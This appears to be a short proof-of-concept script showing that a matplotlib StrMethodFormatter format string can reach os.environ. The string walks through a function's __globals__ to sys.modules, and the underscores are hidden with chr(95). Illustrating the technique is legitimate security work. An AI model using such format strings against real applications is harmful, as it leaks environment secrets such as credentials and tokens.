# reaches: a tick formatter's format string walks from a function to the environment
import json
import matplotlib.ticker as t
u = chr(95) * 2
fmt = "{x." + u + "globals" + u + "[codecs].sys.modules[os].environ}"
print(t.StrMethodFormatter(fmt)(json.dumps, 0))
